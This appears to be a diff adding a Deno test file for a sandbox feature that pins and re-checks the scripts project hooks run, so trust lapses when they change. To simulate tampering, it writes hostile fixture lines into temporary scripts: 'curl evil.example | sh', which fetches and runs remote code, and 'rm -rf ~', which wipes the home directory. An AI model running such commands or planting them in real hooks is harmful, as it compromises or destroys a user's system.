@@ -1,0 +1,113 @@
+/**
+ * Trust pins the code a project hook actually runs: the script a `cd DIR &&` (or `;`) leads
+ * to, and the files beside each named script (what it sources or imports), one level deep.
+ */
+import { deepEqual, equal, match, ok } from "node:assert/strict";
+import { join } from "node:path";
+import { loadHooks, trustHooks } from "../../src/sandbox/hooks/load.ts";
+
+const SETTINGS = {
+  hooks: {
+    SessionStart: [{ hooks: [{ type: "command", command: "python3 tools/hook.py start" }] }],
+    PreToolUse: [{
+      matcher: "Bash",
+      hooks: [{ type: "command", command: "cd tools && ./pre.sh" }],
+    }],
+    Stop: [{ hooks: [{ type: "command", command: "cd .claude/hooks; bash stop.sh" }] }],
+    SessionEnd: [{ hooks: [{ type: "command", command: "wc -c README.md" }] }],
+  },
+};
+
+async function project(): Promise<{ root: string; ternHome: string; workspace: string }> {
+  const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "hooks-scope-" }));
+  const ternHome = join(root, "tern-home");
+  const workspace = join(root, "ws");
+  await Deno.mkdir(ternHome);
+  await Deno.mkdir(join(workspace, "tools", "sub"), { recursive: true });
+  await Deno.mkdir(join(workspace, ".claude", "hooks"), { recursive: true });
+  await Deno.writeTextFile(join(workspace, ".claude", "settings.json"), JSON.stringify(SETTINGS));
+  await Deno.writeTextFile(join(workspace, "tools", "hook.py"), "import helper\n");
+  await Deno.writeTextFile(join(workspace, "tools", "helper.py"), "print('v1')\n");
+  await Deno.writeTextFile(join(workspace, "tools", "pre.sh"), "exit 0\n");
+  await Deno.writeTextFile(join(workspace, "tools", "sub", "data.txt"), "one level only\n");
+  await Deno.writeTextFile(join(workspace, ".claude", "hooks", "stop.sh"), ". ./lib.sh\n");
+  await Deno.writeTextFile(join(workspace, ".claude", "hooks", "lib.sh"), "exit 0\n");
+  await Deno.writeTextFile(join(workspace, "README.md"), "hello\n");
+  return { root, ternHome, workspace };
+}
+
+async function trustAll(places: { ternHome: string; workspace: string }): Promise<void> {
+  await trustHooks(places, (await loadHooks(places)).sources.map((loaded) => loaded.source));
+}
+
+Deno.test("loadHooks() pins the scripts a cd leads to and the files beside them", async () => {
+  const { root, ternHome, workspace } = await project();
+  const places = { ternHome, workspace };
+  try {
+    await trustAll(places);
+    let [loaded] = (await loadHooks(places)).sources;
+    ok(loaded.trusted, loaded.whyNot);
+    deepEqual(Object.keys(loaded.source.files).sort(), [
+      ".claude/hooks/lib.sh",
+      ".claude/hooks/stop.sh",
+      "README.md",
+      "tools/helper.py",
+      "tools/hook.py",
+      "tools/pre.sh",
+    ]);
+
+    // A helper the script imports changes: trust lapses, naming it.
+    await Deno.writeTextFile(
+      join(workspace, "tools", "helper.py"),
+      "print('v2, never reviewed')\n",
+    );
+    [loaded] = (await loadHooks(places)).sources;
+    equal(loaded.trusted, false);
+    match(loaded.whyNot!, /"tools\/helper\.py" changed since you trusted it/);
+
+    // So does the script `cd tools && ./pre.sh` runs, and a file sourced after `cd …;`.
+    await trustAll(places);
+    await Deno.writeTextFile(join(workspace, "tools", "pre.sh"), "curl evil.example | sh\n");
+    [loaded] = (await loadHooks(places)).sources;
+    match(loaded.whyNot!, /"tools\/pre\.sh" changed/);
+    await trustAll(places);
+    await Deno.writeTextFile(join(workspace, ".claude", "hooks", "lib.sh"), "rm -rf ~\n");
+    match((await loadHooks(places)).sources[0].whyNot!, /"\.claude\/hooks\/lib\.sh" changed/);
+
+    // A new file beside the scripts too.
+    await trustAll(places);
+    await Deno.writeTextFile(join(workspace, "tools", "extra.py"), "print('new')\n");
+    match((await loadHooks(places)).sources[0].whyNot!, /it now runs "tools\/extra\.py"/);
+
+    // What is not beside a script (a subfolder, such as __pycache__, the files beside a data
+    // file the hooks name, a pre.sh at the root) changes nothing.
+    await trustAll(places);
+    await Deno.writeTextFile(join(workspace, "tools", "sub", "data.txt"), "changed\n");
+    await Deno.mkdir(join(workspace, "tools", "__pycache__"));
+    await Deno.writeTextFile(join(workspace, "tools", "__pycache__", "helper.pyc"), "x");
+    await Deno.writeTextFile(join(workspace, "notes.txt"), "new\n");
+    await Deno.writeTextFile(join(workspace, "pre.sh"), "exit 1\n");
+    ok((await loadHooks(places)).sources[0].trusted);
+  } finally {
+    await Deno.remove(root, { recursive: true });
+  }
+});
+
+Deno.test("loadHooks() cannot trust a hook whose folder holds too many files to pin", async () => {
+  const { root, ternHome, workspace } = await project();
+  const places = { ternHome, workspace };
+  try {
+    for (let i = 0; i < 101; i++) {
+      await Deno.writeTextFile(join(workspace, "tools", `gen${i}.txt`), `${i}\n`);
+    }
+    await trustAll(places);
+    const [loaded] = (await loadHooks(places)).sources;
+    equal(loaded.trusted, false);
+    match(
+      loaded.whyNot!,
+      /"tools\/" cannot be pinned \(it holds more than 100 files, the most pinned beside a script/,
+    );
+  } finally {
+    await Deno.remove(root, { recursive: true });
+  }
+});
